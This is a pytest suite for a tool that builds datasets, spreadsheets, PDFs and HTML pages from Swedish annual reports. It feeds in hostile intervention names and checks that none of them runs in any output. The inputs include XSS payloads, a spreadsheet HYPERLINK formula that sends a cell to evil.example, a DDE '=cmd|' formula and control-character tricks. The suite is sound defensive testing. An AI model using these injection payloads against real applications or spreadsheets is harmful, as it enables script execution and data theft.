"""A report that holds HTML, scripts, formulas, endless words and turned text changes nothing but the text shown."""

from __future__ import annotations

import csv
import html
import io
import re
import zipfile
from collections.abc import Iterator
from pathlib import Path

import openpyxl
import pypdfium2
import pytest
from browsing import chromium
from selenium import webdriver
from selenium.webdriver.common.by import By

from corpus import flag
from corpus.build import Options, run
from corpus.decision_csv import COLUMNS
from corpus.formulas import FORMULA
from corpus.letter_words import Words
from corpus.name_listing import table
from corpus.store import read_table

NAMES = (
    "<script>window.ran='script'</script>",
    '"><img src=x onerror="window.ran=\'attribute\'">',
    "'><svg onload=window.ran='svg'>",
    "</style></script></table></main><iframe srcdoc='<script>top.ran=1</script>'></iframe>",
    '=HYPERLINK("http://evil.example/?"&A1,"Klicka")',
    "+46 8 123 45",
    "-2+3+cmd",
    "@SUM(A1:A9)",
    "=cmd|'/C calc'!A0",
    "Å" * 400,
    "\u202eksnevs ton\u202c",
    "مرحبا بالعالم",
    "{{ 7*7 }}{% raw %}${7*7}",
    "javascript:window.ran='url'",
    "a;b,'c'\"d",
    "Ly\x00ra\x07\x1b[31m",
    "x]]><!-- --!><!\u2028\u2029",
)
HOSTILE_FILE = "=cmd <img src=x onerror=window.ran='file'> 2022.md"


def report(year: int = 2022) -> str:
    """Every name as an intervention, in a table whose sums do not hold, and in a sentence that says another number."""
    rows = [f"| {html.escape(name).replace('|', '&#124;')} | {20 + n} | {8 + n} | 12 |" for n, name in enumerate(NAMES)]
    women, men = sum(8 + n for n in range(len(NAMES))), 12 * len(NAMES)
    # Every third sentence says another number than the table.
    said = "\n\n".join(
        f"Under {year} deltog {20 + n + (n % 3 == 0)} personer i {html.escape(name)}." for n, name in enumerate(NAMES)
    )
    return (
        f"# Årsredovisning {year} <script>window.ran='title'</script>\n\n"
        "Samordningsförbundet Huddinge Botkyrka Salem\n\n"
        "## Deltagare =1+1 <b onmouseover=window.ran=1>\n\n"
        f"| Insats | Antal deltagare {year} <img src=x onerror=window.ran=1> | Varav kvinnor | Varav män |\n"
        "|---|---|---|---|\n" + "\n".join(rows) + f"\n| TOTALT | {women + men} | {women} | {men} |\n\n{said}\n"
    )


@pytest.fixture(scope="module")
def dataset(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The report read, decided about by somebody with a hostile name, and its letter beside the dataset."""
    folder, out = tmp_path_factory.mktemp("reports"), tmp_path_factory.mktemp("out")
    (folder / HOSTILE_FILE).write_text(report(), encoding="utf-8")
    run([folder], Options(out, jobs=1))
    observation = read_table(out, "observations").iloc[0]
    decided = folder / "decisions.csv"
    with decided.open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows(
            [
                COLUMNS,
                [
                    "value",
                    observation["obs_id"],
                    "keep",
                    "",
                    observation["value_printed"],
                    NAMES[0],
                    "2026-11-02",
                    NAMES[4],
                ],
            ]
        )
    run([folder], Options(out, decisions=decided, jobs=1))
    tables = {name: table(out, name) for name in flag.TABLES}
    found = flag.find(tables, "HBS", "2022", "", Words("sv"))
    made = flag.written(tables, found, Words("sv"), date="2026-11-25", sender=(NAMES[0],), list_name="letter.csv")
    flag.save(out / "letter.pdf", made.files)
    assert made.items > 5
    return out


def cells(path: Path, separator: str = ",") -> list[str]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return [cell for row in csv.reader(file, delimiter=separator) for cell in row]


def test_the_datasets_csv_keeps_every_letter(dataset: Path) -> None:
    """It is data for programs: what begins like a formula stays as it is printed (docs/decisions.md)."""
    names = {r["intervention_printed"] for r in table(dataset, "observations")}
    kept = {" ".join(n.split()) for n in names}
    for name in ('=HYPERLINK("http://evil.example/?"&A1,"Klicka")', "@SUM(A1:A9)", "Å" * 400, NAMES[1]):
        assert name in kept
    assert cells(dataset / "observations.csv") == [
        c for row in csv.reader(io.StringIO((dataset / "observations.csv").read_text("utf-8"), newline="")) for c in row
    ]


def test_the_workbook_holds_no_formula_and_no_link_out_of_it(dataset: Path) -> None:
    for path in dataset.rglob("*.xlsx"):
        book = openpyxl.load_workbook(path)
        found = [c for sheet in book for row in sheet.iter_rows() for c in row if c.value is not None]
        assert any(str(c.value).startswith("=HYPERLINK") for c in found)
        assert not [c.value for c in found if c.data_type == "f" or (c.hyperlink and c.hyperlink.target)]
        with zipfile.ZipFile(path) as parts:
            sheets = [parts.read(n).decode() for n in parts.namelist() if n.endswith(".xml")]
        assert not any(re.search(r"<f[ >]|<hyperlink [^>]*r:id|ddeLink|externalLink", text) for text in sheets)


def test_the_letters_list_begins_no_cell_like_a_formula(dataset: Path) -> None:
    found = cells(dataset / "letter.csv", ";")
    assert any("HYPERLINK" in c for c in found)
    assert not [c for c in found if c.startswith(FORMULA) and not re.fullmatch(r"-[\d\s.,]+%?", c)]
    assert not [c for c in found if re.search(r"[\x00-\x08\x0b-\x1f\u202a-\u202e\u2066-\u2069]", c)]


def test_the_letter_on_paper_has_one_page_and_nothing_that_acts(dataset: Path) -> None:
    content = (dataset / "letter.pdf").read_bytes()
    pages = pypdfium2.PdfDocument(content)
    assert len(pages) == 1
    text = pages[0].get_textpage().get_text_bounded()
    assert "HYPERLINK" in text or "script" in text
    assert not re.search(rb"/(JavaScript|JS|URI|Launch|OpenAction|Link)\b", content)


@pytest.fixture(scope="module")
def browser() -> Iterator[webdriver.Chrome]:
    with chromium() as driver:
        yield driver


@pytest.mark.parametrize("width", [1280, 390])
def test_no_page_runs_anything_or_grows_wider_than_the_window(
    browser: webdriver.Chrome, dataset: Path, width: int
) -> None:
    pages = sorted(dataset.rglob("*.html"))
    assert [p.name for p in pages] == ["letter.html", "index.html"]
    for page in pages:
        browser.get(page.as_uri())
        browser.set_window_size(width, 900)
        browser.execute_cdp_cmd(
            "Emulation.setDeviceMetricsOverride",
            {"width": width, "height": 900, "deviceScaleFactor": 1, "mobile": False},
        )
        title = browser.title
        # Whatever is folded away is shown, every place is hovered over: what waits for that would run now.
        browser.execute_script("document.querySelectorAll('details').forEach(d => d.open = true)")
        assert browser.execute_script("return window.ran") is None, page
        assert "script" not in title or "<" in title
        assert not browser.find_elements(By.CSS_SELECTOR, "iframe, [onerror], [onload], [onmouseover], img[src='x']")
        assert not browser.find_elements(By.CSS_SELECTOR, "a[href^='javascript']")
        shown = browser.find_element(By.TAG_NAME, "body").get_attribute("textContent") or ""
        assert "HYPERLINK" in shown
        across = browser.execute_script("return document.documentElement.scrollWidth")
        assert across <= width, f"{page.name} is {across} wide at {width}"
        refused = [e for e in browser.get_log("browser") if e["level"] == "SEVERE"]
        assert not refused, refused


def test_every_script_of_a_page_is_its_own(dataset: Path) -> None:
    """The policy of each page admits scripts and styles by their sums only, and no page loads anything."""
    for page in dataset.rglob("*.html"):
        text = page.read_text(encoding="utf-8")
        (policy,) = re.findall(r'http-equiv="Content-Security-Policy" content="([^"]+)"', text)
        assert "default-src 'none'" in policy
        assert "unsafe" not in policy
        assert not re.findall(r"""<(?:script|link|img|iframe)[^>]+(?:src|href)=["']?(?!data:|#)[^"'>\s]+""", text)


def test_names_on_the_page_are_the_names_as_printed(browser: webdriver.Chrome, dataset: Path) -> None:
    (page,) = dataset.rglob("index.html")
    browser.get(page.as_uri())
    shown = " ".join((browser.find_element(By.TAG_NAME, "body").get_attribute("textContent") or "").split())
    for name in ("<script>window.ran='script'</script>", "@SUM(A1:A9)", "{{ 7*7 }}{% raw %}${7*7}"):
        assert name in shown
